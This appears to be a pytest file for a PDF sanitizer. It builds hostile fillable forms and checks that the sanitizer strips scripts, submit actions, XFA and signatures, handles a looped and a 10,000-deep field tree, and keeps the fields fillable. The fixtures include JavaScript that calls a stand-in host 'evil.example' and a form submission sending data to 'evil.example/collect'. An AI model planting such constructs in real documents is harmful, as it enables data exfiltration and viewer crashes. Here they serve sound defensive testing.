"""PDF forms stay fillable and lose everything that acts (ISO 32000-1 §12.6–12.7).

Hostile forms are built here from the specification, one attack each: scripts on a
field's keystroke, format, validate and calculate events, a button that runs JavaScript,
submits the form to a URL, imports data or opens a URI, a choice option that is a
dictionary, XFA with a script, a signature, loops and deep nesting in the field tree.
Each output is inspected by ``tests/pdf_allowlist.py`` (independent of cdr) and by the
verifier, and the fields must still be fillable: pikepdf sees them with their values,
pdfium's form API sees them as fields.
"""

from __future__ import annotations

import ctypes
import io
import shutil
import subprocess
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path

import pikepdf
import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_raw
import pytest
from pikepdf import Array, Dictionary, Name, String

from cdr.daemon.counters import JAPAN
from cdr.lifeline import Ending
from cdr.model import Action, FileType, Outcome, SanitizeResult
from cdr.policy import load_policy
from cdr.removals import kept_codes, kept_words, removed_codes, removed_words
from cdr.report import Period, Row, text_lines
from cdr.sanitizers.base import Context
from cdr.sanitizers.pdf import PdfSanitizer
from cdr.verifiers import VerifyContext, verify_structure
from tests.conftest import ROOT
from tests.pdf_allowlist import inspect

POLICY = load_policy(ROOT / "policies" / "default.yaml")
FORM_HTML = """<html><head><meta charset="utf-8"><title>転入届</title></head><body>
<h1>転入届 申請書</h1>
<form>
<p>氏名 <input type="text" name="shimei" value="山田太郎"></p>
<p>同意する <input type="checkbox" name="agree" checked></p>
<p>性別 <input type="radio" name="sex" value="m" checked> 男 <input type="radio" name="sex" value="f"> 女</p>
<p>区分 <select name="kubun"><option>転入</option><option selected>転居</option><option>転出</option></select></p>
</form></body></html>"""


# ---------------------------------------------------------------- what a reader sees
def rebuild(data: bytes) -> tuple[bytes, SanitizeResult]:
    out = io.BytesIO()
    result = PdfSanitizer().sanitize(io.BytesIO(data), out, Context(FileType.PDF, Action.REBUILD, "a.pdf", POLICY))
    return out.getvalue(), result


def verified(data: bytes) -> list[str]:
    found = verify_structure(FileType.PDF, io.BytesIO(data), VerifyContext(POLICY, "a.pdf"))
    return [f"{f.kind}: {f.detail}" for f in found]


def fields_by_pikepdf(data: bytes) -> dict[str, object]:
    """Terminal fields by full name → value (None when the field has none)."""
    found: dict[str, object] = {}

    def walk(field: Dictionary, prefix: str) -> None:
        name = f"{prefix}.{field.T}" if prefix and "/T" in field else str(field.get("/T", prefix))
        kids = [k for k in field.get("/Kids", []) if "/T" in k]
        if not kids:
            value = field.get("/V")
            found[name] = str(value) if value is not None else None
        for kid in kids:
            walk(kid, name)

    with pikepdf.open(io.BytesIO(data)) as pdf:
        for field in pdf.Root.AcroForm.Fields if "/AcroForm" in pdf.Root else []:
            walk(field, "")
    return found


def fields_by_pdfium(data: bytes) -> list[tuple[str, int, str]]:
    """(name, pdfium's field type, value) of every widget pdfium's form layer knows."""
    document = pdfium.PdfDocument(data)
    document.init_forms()
    if document.formenv is None:
        return []  # pdfium starts no form layer for a document without a form
    env = document.formenv.raw
    seen = []
    for number in range(len(document)):
        page = document[number]
        for index in range(pdfium_raw.FPDFPage_GetAnnotCount(page.raw)):
            annot = pdfium_raw.FPDFPage_GetAnnot(page.raw, index)
            seen.append(
                (
                    _wide(pdfium_raw.FPDFAnnot_GetFormFieldName, env, annot),
                    pdfium_raw.FPDFAnnot_GetFormFieldType(env, annot),
                    _wide(pdfium_raw.FPDFAnnot_GetFormFieldValue, env, annot),
                )
            )
            pdfium_raw.FPDFPage_CloseAnnot(annot)
    return seen


def _wide(function: Callable, env: object, annot: object) -> str:
    size = function(env, annot, None, 0)
    buffer = ctypes.create_string_buffer(size)
    function(env, annot, ctypes.cast(buffer, ctypes.POINTER(pdfium_raw.FPDF_WCHAR)), size)
    return buffer.raw.decode("utf-16-le").rstrip("\0")


def rendered(data: bytes) -> list[bytes]:
    document = pdfium.PdfDocument(data)
    document.init_forms()  # draws the fields as a viewer would
    return [document[n].render(scale=40 / 72, may_draw_forms=True).to_pil().convert("L").tobytes() for n in range(len(document))]


# ---------------------------------------------------------------- builders
def _document(plant: Callable[[pikepdf.Pdf, Dictionary], None]) -> bytes:
    """One page of text with a form planted by ``plant(pdf, page)``."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0].obj
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page.Resources = Dictionary(Font=Dictionary(Helv=font))
    page.Contents = pdf.make_stream(b"BT /Helv 14 Tf 50 780 Td (Application form) Tj ET")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), DA=String("/Helv 0 Tf 0 g"), DR=Dictionary(Font=Dictionary(Helv=font)))
    plant(pdf, page)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _js(pdf: pikepdf.Pdf, code: str) -> Dictionary:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def _field(pdf: pikepdf.Pdf, page: Dictionary, kind: str, name: str, rect: list[int], **keys: object) -> Dictionary:
    """A terminal field merged with its widget (12.7.3.1), listed in the form and on the page."""
    appearance = pdf.make_stream(b"0 0 1 rg 0 0 100 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 100, 20])
    field = pdf.make_indirect(
        Dictionary(
            FT=Name(kind), T=String(name), Type=Name.Annot, Subtype=Name.Widget, Rect=Array(rect), F=4, P=page,
            DA=String("/Helv 12 Tf 0 g"), AP=Dictionary(N=appearance), **keys,
        )
    )
    pdf.Root.AcroForm.Fields.append(field)
    if "/Annots" not in page:
        page.Annots = Array()
    page.Annots.append(field)
    return field


def field_scripts(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """§12.7.3 / 12.6.3 table 196: keystroke, format, validate and calculate scripts, and the
    calculation order naming the field; the producer asks the viewer to redraw (NeedAppearances)."""
    events = {f"/{key}": _js(pdf, f"event.value = app.launchURL('http://evil.example/{key}')") for key in "KFVC"}
    total = _field(pdf, page, "/Tx", "total", [50, 700, 250, 720], V=String("1200"), AA=Dictionary(events))
    pdf.Root.AcroForm.CO = Array([total])
    pdf.Root.AcroForm.NeedAppearances = True


def widget_javascript(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """§12.6.4.16: a check box whose click runs JavaScript, and whose page-open event too."""
    _field(
        pdf, page, "/Btn", "agree", [50, 650, 70, 670], V=Name.Yes, AS=Name.Yes,
        A=_js(pdf, "this.exportDataObject({cName:'a'})"), AA=Dictionary(PO=_js(pdf, "app.alert(1)")),
    )


def submit_to_url(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """§12.7.5.2: a push button sending the whole form to a URL, and one resetting it (12.7.5.3)."""
    url = Dictionary(FS=Name.URL, F=String("http://evil.example/collect"))
    _field(pdf, page, "/Btn", "send", [50, 600, 150, 620], Ff=65536, A=Dictionary(S=Name.SubmitForm, F=url, Flags=4))
    _field(pdf, page, "/Btn", "clear", [200, 600, 300, 620], Ff=65536, A=Dictionary(S=Name.ResetForm))


def import_data(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """§12.7.5.4: a button importing field values from a file, and one opening a URI."""
    _field(pdf, page, "/Btn", "load", [50, 550, 150, 570], Ff=65536, A=Dictionary(S=Name.ImportData, F=String("data.fdf")))
    _field(pdf, page, "/Btn", "web", [200, 550, 300, 570], Ff=65536, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))


def choice_option_dictionary(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """§12.7.4.4: /Opt holds text strings or [export, display] pairs; here one is an action."""
    options = Array([String("転入"), _js(pdf, "app.alert('opt')"), Array([String("b"), String("転居")])])
    _field(pdf, page, "/Ch", "kubun", [50, 500, 250, 520], Ff=131072, Opt=options, V=String("転入"))


def xfa_with_fallback(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """XFA 3.3 (§12.7.8): a template with a script beside an AcroForm fallback field."""
    xdp = pdf.make_stream(b"<xdp:xdp><template><script>xfa.host.messageBox('x')</script></template></xdp:xdp>")
    pdf.Root.AcroForm.XFA = xdp
    _field(pdf, page, "/Tx", "name", [50, 450, 250, 470], V=String("Sato"))


def xfa_only(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """An XFA-only form: the AcroForm is an empty placeholder and the page says "Please wait"."""
    xdp = pdf.make_stream(b"<xdp:xdp><template><script>app.alert('x')</script></template></xdp:xdp>")
    pdf.Root.AcroForm.XFA = xdp
    pdf.Root.NeedsRendering = True


def signed(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """§12.8: a signature field with a signature value; also the form's SigFlags."""
    signature = pdf.make_indirect(
        Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), SubFilter=Name("/adbe.pkcs7.detached"),
                   Contents=String(b"\x30\x82" + b"\x00" * 64), ByteRange=Array([0, 10, 20, 10]))
    )
    _field(pdf, page, "/Sig", "signature", [50, 400, 250, 440], V=signature, Lock=Dictionary(Action=Name.All))
    pdf.Root.AcroForm.SigFlags = 3


def kids_loop(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A field whose kid lists the field itself as its kid again: a loop in the field tree."""
    parent = pdf.make_indirect(Dictionary(T=String("address"), FT=Name.Tx, Kids=Array()))
    child = _field(pdf, page, "/Tx", "city", [50, 350, 250, 370], V=String("Sapporo"), Parent=parent)
    pdf.Root.AcroForm.Fields = Array([parent])
    parent.Kids.append(child)
    child.Kids = Array([parent])


def deep_kids(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """10,000 nested fields: a viewer walking it recursively overflows its stack."""
    node = pdf.make_indirect(Dictionary(T=String("d0"), FT=Name.Tx))
    pdf.Root.AcroForm.Fields.append(node)
    for depth in range(1, 10_000):
        kid = pdf.make_indirect(Dictionary(T=String(f"d{depth}"), Parent=node))
        node.Kids = Array([kid])
        node = kid
    _field(pdf, page, "/Tx", "name", [50, 300, 250, 320], V=String("kept"))


def default_font_action(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """§12.7.2 table 218: the form's default resources with a direct font that carries an
    action, beside a number where a font belongs."""
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, AA=Dictionary(O=_js(pdf, "x")))
    pdf.Root.AcroForm.DR = Dictionary(Font=Dictionary(Helv=font, Odd=7))
    _field(pdf, page, "/Tx", "name", [50, 250, 250, 270], V=String("kept"))


HOSTILE = {
    "default_font_action": (default_font_action, {"name": "kept"}, {"nested-action"}),
    "field_scripts": (field_scripts, {"total": "1200"}, {"form-field-scripts", "form-calculation-order"}),
    "widget_javascript": (widget_javascript, {"agree": "/Yes"}, {"form-field-scripts"}),
    "submit_to_url": (submit_to_url, {"send": None, "clear": None}, {"form-submit-action"}),
    "import_data": (import_data, {"load": None, "web": None}, {"form-submit-action", "form-field-scripts"}),
    "choice_option_dictionary": (choice_option_dictionary, {"kubun": "転入"}, {"form-field-opt-not-text"}),
    "xfa_with_fallback": (xfa_with_fallback, {"name": "Sato"}, {"xfa"}),
    "xfa_only": (xfa_only, {}, {"xfa-form-not-kept"}),
    "signed": (signed, {"signature": None}, {"signature-value", "form-signature-flags"}),
    "kids_loop": (kids_loop, {"address.city": "Sapporo"}, set()),
    "deep_kids": (deep_kids, {"name": "kept"}, {"form-field-unreadable"}),
}


@pytest.mark.parametrize("attack", sorted(HOSTILE))
def test_hostile_form_keeps_its_fields_and_loses_what_acts(attack: str) -> None:
    plant, fields, removed = HOSTILE[attack]
    hostile = _document(plant)
    assert inspect(hostile) or attack == "kids_loop", f"{attack}: nothing was planted"
    output, result = rebuild(hostile)
    assert inspect(output) == []
    assert verified(output) == []
    kept = fields_by_pikepdf(output)
    assert {name: kept.get(name, "missing") for name in fields} == fields
    assert removed <= {a.what for a in result.actions if a.action == "removed"}
    assert {name.rsplit(".")[-1] for name in fields} <= {name.rsplit(".")[-1] for name, _, _ in fields_by_pdfium(output)}


def test_a_signature_keeps_its_place_but_not_its_value() -> None:
    output, result = rebuild(_document(signed))
    with pikepdf.open(io.BytesIO(output)) as pdf:
        field = pdf.Root.AcroForm.Fields[0]
        assert (field.FT, "/V" in field, "/Lock" in field, "/AP" in field) == ("/Sig", False, False, True)
    assert "電子署名" in removed_words([a.what for a in result.actions])


def test_xfa_only_form_says_it_could_not_be_kept() -> None:
    output, result = rebuild(_document(xfa_only))
    with pikepdf.open(io.BytesIO(output)) as pdf:
        assert "/AcroForm" not in pdf.Root and "/NeedsRendering" not in pdf.Root
    words = removed_words([a.what for a in result.actions if a.action == "removed"])
    assert "XFA形式の入力フォームは残せませんでした（紙と同じ見た目で届けます）" in words


# ---------------------------------------------------------------- a real form
def libreoffice_export(work: Path, html: str, **options: bool) -> bytes:
    """An HTML page (and any file beside it in ``work``) exported to PDF by LibreOffice
    Writer with these export options (``UseTaggedPDF=True``…)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is needed for this fixture (make test installs it)"
    (work / "page.html").write_text(html, encoding="utf-8")
    settings = ",".join(f'"{key}":{{"type":"boolean","value":"{str(value).lower()}"}}' for key, value in options.items())
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{work}/profile", "--convert-to",
         f"pdf:writer_pdf_Export:{{{settings}}}", "--outdir", str(work), str(work / "page.html")],
        check=True, capture_output=True, timeout=180,
    )
    return (work / "page.pdf").read_bytes()


@pytest.fixture(scope="module")
def libreoffice_form(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A fillable form exported by LibreOffice Writer (text, check box, option buttons,
    list box) with tags: what a ministry's 申請書 made with an office suite looks like."""
    return libreoffice_export(tmp_path_factory.mktemp("form"), FORM_HTML, UseTaggedPDF=True, ExportFormFields=True)


@pytest.mark.slow
def test_libreoffice_form_stays_fillable_with_its_values(libreoffice_form: bytes) -> None:
    output, result = rebuild(libreoffice_form)
    assert inspect(output) == [] and verified(output) == []
    assert fields_by_pikepdf(output) == {"shimei": "山田太郎", "agree": "/on", "sex": "/m", "kubun": "転居"}
    seen = fields_by_pdfium(output)
    assert [(name, kind) for name, kind, _ in seen] == [
        (name, kind) for name, kind, _ in fields_by_pdfium(libreoffice_form)
    ]
    assert ("shimei", pdfium_raw.FPDF_FORMFIELD_TEXTFIELD, "山田太郎") in seen
    assert ("kubun", pdfium_raw.FPDF_FORMFIELD_COMBOBOX, "転居") in seen
    # the ticked box reads as ticked: LibreOffice wrote /V /Yes for states /on and /Off, and
    # the appearance drawn for /NeedAppearances settles it to /on
    assert ("agree", pdfium_raw.FPDF_FORMFIELD_CHECKBOX, "on") in seen
    assert ("sex", pdfium_raw.FPDF_FORMFIELD_RADIOBUTTON, "m") in seen
    kept = {a.what: a.count for a in result.actions if a.action == "kept"}
    assert kept["form-fields"] == 4  # the radio group's two buttons are one field
    assert "入力欄は入力できる状態のまま残しました" in kept_words(kept)


@pytest.mark.slow
def test_libreoffice_form_looks_the_same(libreoffice_form: bytes) -> None:
    """Page by page: text and boxes as before (the check box may now show the state its
    value names: LibreOffice writes /V /Yes where the box's states are /on and /Off)."""
    before, after = rendered(libreoffice_form), rendered(rebuild(libreoffice_form)[0])
    assert len(before) == len(after)
    for old, new in zip(before, after, strict=True):
        changed = sum(1 for a, b in zip(old, new, strict=True) if abs(a - b) > 64)
        assert changed / len(old) < 0.002


@pytest.mark.slow
def test_released_form_says_what_was_kept(pipeline, tmp_path: Path, libreoffice_form: bytes) -> None:  # noqa: ANN001
    """Through the sandbox and the verifier, as staff's file goes: the result line names
    the fields as kept."""
    source = tmp_path / "in" / "tennyu.pdf"
    source.parent.mkdir()
    source.write_bytes(libreoffice_form)
    verdict = pipeline.process(source, "tennyu.pdf")
    assert verdict.verdict == Outcome.RELEASED, verdict
    assert {"what": "form-fields", "action": "kept", "count": 4} in verdict.actions
    assert fields_by_pikepdf(Path(verdict.output).read_bytes())["shimei"] == "山田太郎"


def test_the_report_says_what_was_kept_in_words() -> None:
    """An administrator's daily report: a released form's line says its fields still work."""
    _, result = rebuild(_document(field_scripts))
    actions = [{"what": a.what, "action": a.action, "count": a.count} for a in result.actions]
    start = datetime(2026, 11, 29, tzinfo=JAPAN)
    found = Row(start, "soumu", "tennyu.pdf", "pdf", Ending.RELEASED, "", tuple(removed_codes(actions)),
                "soumu/tennyu.pdf", None, "", "01J", kept=tuple(kept_codes(actions)))
    lines = list(text_lines(Period(start, start + timedelta(days=1), "日報 2026-11-29"), [found]))
    joined = "".join(line.strip() for line in lines)
    assert "保持 kept: 入力欄は入力できる状態のまま残しました。 (form-fields)" in joined
    assert "入力欄の計算・検証のためのプログラム削除" in joined


def test_scan_finds_nothing_in_a_form_without_actions_and_the_scripts_in_one_with() -> None:
    """``cdr scan`` reports what can act: a form to fill in is not that, its scripts are."""
    plain = _document(lambda pdf, page: _field(pdf, page, "/Tx", "name", [50, 700, 250, 720], V=String("Sato")))
    context = Context(FileType.PDF, Action.REBUILD, "a.pdf", POLICY)
    assert PdfSanitizer().inspect(io.BytesIO(plain), context) == []
    found = {f.kind for f in PdfSanitizer().inspect(io.BytesIO(_document(field_scripts)), context)}
    assert {"javascript", "additional-actions"} <= found
